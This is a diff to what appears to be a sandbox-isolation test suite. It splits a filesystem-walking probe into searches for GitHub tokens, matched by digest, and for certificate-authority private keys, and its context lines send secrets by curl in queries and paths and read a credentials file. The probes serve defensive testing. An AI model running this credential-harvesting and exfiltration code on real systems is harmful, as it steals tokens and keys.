@@ -27,6 +27,39 @@ const URL = `'https://' + env.ALLOWED_HOST + '${LEAK}'`;
 const to = (rest: string): string => `curl(${rest}, ${URL})`;
 const DECOY = `import { readFileSync } from "node:fs"; const decoy = JSON.parse(readFileSync(process.env.HOME + "/.config/backup/credentials.json", "utf8")).secret_key;`;
 
+/** Values are known by their digests alone: a search must not find what it searches with. */
+const KNOWN_VALUES = `import { createHash } from "node:crypto";
+const wanted = new Set([env.TOKEN_SHA256, env.GIT_TOKEN_SHA256, env.KEY_LINE_SHA256]);
+const isFound = (text) => (text.match(/gh[p]_[0-9a-f]{36}|[A-Za-z0-9+/=]{70}/g) ?? []).some((piece) => wanted.has(createHash("sha256").update(piece).digest("hex")));
+`;
+
+const KEY_OF_AUTHORITY = `import { createPrivateKey, X509Certificate } from "node:crypto";
+const authority = new X509Certificate(readFileSync(env.AUTHORITY));
+const isFound = (text) => (text.match(/-----BEGIN [A-Z ]*PRIVATE KEY-----[^-]*-----END [A-Z ]*PRIVATE KEY-----/g) ?? []).some((key) => { try { return authority.checkPrivateKey(createPrivateKey(key)); } catch { return false; } });
+`;
+
+/** What is searched for says `isFound` of a file's text. */
+function searchFor(what: string): string {
+  return `import { lstatSync, readdirSync, readFileSync } from "node:fs"; let files = 0;
+${what}const skip = new Set(["/proc", "/sys", "/dev", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot"]);
+const look = (path) => { let text; try { text = readFileSync(path, "latin1"); } catch { return; }
+  files++; if (isFound(text.replaceAll("\\\\n", "\\n"))) got("found in " + path); };
+const walk = (folder) => { let names = []; try { names = readdirSync(folder); } catch { return; }
+  for (const name of names) { const path = (folder === "/" ? "" : folder) + "/" + name; if (skip.has(path)) continue;
+    const stat = lstatSync(path, { throwIfNoEntry: false }); if (stat === undefined) continue;
+    if (stat.isDirectory()) walk(path); else if (stat.isFile() && stat.size < 32e6) look(path); } };
+for (const folder of env.SECRET_FOLDERS.split(" ")) walk(folder);
+if (files === 0) cannot("there was no file to look at");
+refused("not-found", { words: files + " files" })`;
+}
+
+function search(what: string, tries: string, wanted: string): Probe {
+  return leak(what, tries, searchFor(wanted), {
+    ...{ invariant: "I2", refused: ["not-found"], isSilent: true },
+    ...{ slow: "it looks at every file", timeoutMs: 120_000 },
+  });
+}
+
 export const EXFILTRATION: readonly Probe[] = [
   leak("query", "sends a secret in a query", `curl(${URL} + '?q=' + env.BOUND)`),
   leak("path", "sends it as a part of a path", `curl(${URL} + '/' + env.BOUND + '/y')`),
@@ -144,18 +177,15 @@ if (tokens.some((token) => createHash("sha256").update(token).digest("hex") === 
 refused("not-in-answer")`,
     { invariant: "I2", refused: ["not-in-answer"], isSilent: true },
   ),
-  leak(
+  search(
     "search-files",
-    "searches all its files and processes for the tokens and the key that sidecars hold",
-    "",
-    {
-      invariant: "I2",
-      attack: [node(searchText())],
-      refused: ["not-found"],
-      isSilent: true,
-      slow: "it looks at every file",
-      timeoutMs: 120_000,
-    },
+    "searches all its files for the tokens and the key that sidecars hold",
+    KNOWN_VALUES,
+  ),
+  search(
+    "search-authority",
+    "searches them for the key of the authority that its programs trust",
+    KEY_OF_AUTHORITY,
   ),
   leak(
     "search-environments",
@@ -173,20 +203,3 @@ refused("not-in-answer")`,
     },
   ),
 ];
-
-/** Values are known by their digests alone: a search must not find what it searches with. */
-function searchText(): string {
-  return `import { createHash } from "node:crypto"; import { lstatSync, readdirSync, readFileSync } from "node:fs";
-const wanted = new Set([env.TOKEN_SHA256, env.GIT_TOKEN_SHA256, env.KEY_LINE_SHA256]); let files = 0;
-const skip = new Set(["/proc", "/sys", "/dev", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot"]);
-const look = (path) => { let text; try { text = readFileSync(path, "latin1"); } catch { return; }
-  files++; text = text.replaceAll("\\\\n", "\\n");
-  for (const [piece] of text.matchAll(/gh[p]_[0-9a-f]{36}|[A-Za-z0-9+/=]{70}/g)) if (wanted.has(createHash("sha256").update(piece).digest("hex"))) got("found in " + path); };
-const walk = (folder) => { let names = []; try { names = readdirSync(folder); } catch { return; }
-  for (const name of names) { const path = (folder === "/" ? "" : folder) + "/" + name; if (skip.has(path)) continue;
-    const stat = lstatSync(path, { throwIfNoEntry: false }); if (stat === undefined) continue;
-    if (stat.isDirectory()) walk(path); else if (stat.isFile() && stat.size < 32e6) look(path); } };
-for (const folder of env.SECRET_FOLDERS.split(" ")) walk(folder);
-if (files === 0) cannot("there was no file to look at");
-refused("not-found", { words: files + " files" })`;
-}
